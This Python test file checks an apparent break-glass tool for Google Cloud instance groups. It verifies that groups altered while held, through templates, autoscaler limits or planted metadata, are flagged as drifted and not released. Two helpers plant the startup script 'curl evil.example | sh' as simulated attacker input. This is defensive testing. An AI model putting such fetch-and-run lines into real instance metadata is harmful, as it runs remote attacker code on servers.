"""A group that somebody changed while it was held is not let go: a restore rolls nothing planted out."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from breakglass.provider import Outcome
from providers.gcp.tests import rig_compute as compute
from providers.gcp.tests.rig_gcp import Rig, close, proposal, undo
from providers.gcp.tests.test_gcp_groups_attacks import (
    EVIL,
    HOLD,
    SUSPEND,
    closed,
    created,
    laid,
    on_group,
    on_members,
    patched,
    planted,
    stopped,
    ticks,
)

SCALER = "autoscaler:bots"


def autoscaler(rig: Rig, verb: str = "insert", **policy: Any) -> None:  # noqa: ANN401 - fields of the API
    """Make the group's autoscaler, or change it."""
    target = f"projects/{rig.project}/zones/{compute.ZONE}/instanceGroupManagers/bots"
    named = {"name": "bots", "target": target} if verb == "insert" else {}
    asked = {"project": rig.project, "zone": compute.ZONE, "autoscaler_resource": {**named, **policy}}
    rig.admin.operate("autoscalers", verb, {**asked, **({} if named else {"autoscaler": "bots"})})


def _template(rig: Rig) -> None:
    patched(rig, instance_template=planted(rig))


def _version(rig: Rig) -> None:
    patched(rig, versions=[{"instance_template": planted(rig), "name": "next", "target_size": {"fixed": 1}}])


def _for_all(rig: Rig) -> None:
    metadata = {"startup-script": "curl evil.example | sh"}
    patched(rig, all_instances_config={"properties": {"metadata": metadata}})


def _for_one(rig: Rig) -> None:
    metadata = {"startup-script": "curl evil.example | sh"}
    configs: Any = [{"name": "bots-1", "preserved_state": {"metadata": metadata}}]
    asked: dict[str, Any] = {
        "instance_group_managers_update_per_instance_configs_req_resource": {"per_instance_configs": configs}
    }
    on_group(rig, "update_per_instance_configs", **asked)


def _limits(rig: Rig) -> None:
    autoscaler(rig, "patch", autoscaling_policy={"max_num_replicas": 500})


def _schedule(rig: Rig) -> None:
    schedules = {"nightly": {"schedule": "0 3 * * *", "duration_sec": 3600, "min_required_replicas": 9}}
    autoscaler(rig, "patch", autoscaling_policy={"scaling_schedules": schedules})


@pytest.mark.parametrize(
    ("change", "word"),
    [
        (_template, "instance_template"),
        (_version, "versions"),
        (_for_all, "all_instances_config"),
        (_for_one, "per-instance configs"),
        (_limits, "max_num_replicas was 9, is 500"),
        (_schedule, "scaling_schedules"),
    ],
)
def test_a_group_that_would_make_something_else_stays_held(
    rig: Rig, change: Callable[[Rig], None], word: str
) -> None:
    """With its autoscaler, and the words say what was changed."""
    group = laid(rig, update_policy={"type_": "PROACTIVE"})
    autoscaler(rig, autoscaling_policy={"min_num_replicas": 2, "max_num_replicas": 9})
    (held, members) = stopped(rig, group)
    change(rig)
    undo(members[0], members[1].target, members[2])

    undone = undo(held[0], held[1].target, held[2])

    assert undone.objects == {"group": Outcome.DRIFTED, SCALER: Outcome.DRIFTED}
    assert word in undone.reason
    assert "by hand" in undone.reason
    ticks(rig)
    asked = {"project": rig.project, "zone": compute.ZONE, "instance_group_manager": "bots"}
    assert rig.admin.call("instance_groups", "get", asked).update_policy.type_ == "OPPORTUNISTIC"
    for name in compute.members(rig, group):
        one = rig.admin.call(
            "instances", "get", {"project": rig.project, "zone": compute.ZONE, "instance": name}
        )
        assert EVIL["items"][0]["value"] not in [item.value for item in one.metadata.items]


def test_a_group_that_nobody_changed_is_let_go_as_it_was(rig: Rig) -> None:
    """Versions, limits and policies come back equal."""
    group = laid(rig, update_policy={"type_": "PROACTIVE"}, standby_policy={"mode": "SCALE_OUT_POOL"})
    utilization = {"utilization_target": 0.65}
    policy = {"min_num_replicas": 2, "max_num_replicas": 9, "cpu_utilization": utilization}
    autoscaler(rig, autoscaling_policy=policy)
    ticks(rig)
    before = rig.control("state")
    (held, members) = stopped(rig, group)
    undo(members[0], members[1].target, members[2])
    ticks(rig)

    undone = undo(held[0], held[1].target, held[2])

    assert undone.objects == {"group": Outcome.RESTORED, SCALER: Outcome.RESTORED}
    ticks(rig)
    assert rig.control("state") == before
    assert set(undo(held[0], held[1].target, held[2]).objects.values()) == {Outcome.ALREADY}


def test_an_autoscaler_that_was_made_during_the_stop_stays_off(rig: Rig) -> None:
    """The signed plan does not name it."""
    group = laid(rig)
    provider = rig.provider(instance_groups=[group])
    step, action = proposal(provider, HOLD), provider.actions[HOLD]
    autoscaler(rig, autoscaling_policy={"min_num_replicas": 40, "max_num_replicas": 90})
    prior, _ = close(action, step.target)

    undone = undo(action, step.target, prior)

    assert undone.objects[SCALER] is Outcome.ENDED
    assert SCALER in undone.reason
    assert action.observe(step.target).objects[SCALER]["mode"] == "OFF"  # type: ignore[index, call-overload]  # an object of JSON


def test_a_standby_pool_does_not_wake_what_stays_off(rig: Rig) -> None:
    """It is resumed as the group grows: so a group with what the plan does not name stays held."""
    group = laid(rig, standby_policy={"mode": "SCALE_OUT_POOL"})
    provider = rig.provider(instance_groups=[group])
    steps = [(provider.actions[name], proposal(provider, name).target) for name in (HOLD, SUSPEND)]
    created(rig, "evil")
    rig.control("platform", {"on": True})
    priors = [close(action, target, rounds=20)[0] for action, target in steps]
    rig.control("platform", {"on": False})
    undo(steps[1][0], steps[1][1], priors[1])
    ticks(rig)

    undone = undo(steps[0][0], steps[0][1], priors[0])

    assert undone.objects == {"group": Outcome.DRIFTED}
    assert f"it would wake {compute.ZONE}/evil" in undone.reason
    on_group(rig, "resize", size=3)
    ticks(rig)
    assert compute.members(rig, group)["evil"] == "SUSPENDED"


def test_a_standby_pool_of_peacetime_is_let_go(rig: Rig) -> None:
    """What was off at planning is the pool's own."""
    group = laid(rig, size=3, standby_policy={"mode": "MANUAL"})
    asleep = min(compute.members(rig, group))
    on_members(rig, "suspend", [asleep])
    patched(rig, standby_policy={"mode": "SCALE_OUT_POOL"})
    ticks(rig)
    before = rig.control("state")
    (held, members) = stopped(rig, group)
    undo(members[0], members[1].target, members[2])
    ticks(rig)

    assert undo(held[0], held[1].target, held[2]).objects == {"group": Outcome.RESTORED}
    ticks(rig)
    assert rig.control("state")["compute_groups"] == before["compute_groups"]


def test_a_swap_between_the_look_and_the_release_is_met(rig: Rig) -> None:
    """The group is read again with its fingerprint: what it is made of is compared once more."""
    group = laid(rig)
    provider = rig.provider(instance_groups=[group])
    step, action = proposal(provider, HOLD), provider.actions[HOLD]
    prior = closed(rig, action, step)
    now = action.observe(step.target)
    patched(rig, instance_template=planted(rig))

    undone = action.revert(step.target, type(now)(prior), now)

    assert undone.objects == {"group": Outcome.DRIFTED}
